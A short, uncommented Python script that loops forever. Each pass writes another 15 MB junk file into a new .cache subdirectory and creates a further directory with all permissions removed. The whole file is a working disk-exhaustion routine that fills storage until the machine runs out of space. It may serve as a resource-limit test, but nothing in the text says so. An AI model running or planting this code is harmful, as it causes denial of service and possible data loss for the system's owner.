import itertools, os

for number in itertools.count():
    os.makedirs(f".cache/d{number}", exist_ok=True)
    with open(f".cache/d{number}/f", "wb") as file:
        file.write(b"x" * 15_000_000)
    os.mkdir(f"closed{number}", 0)
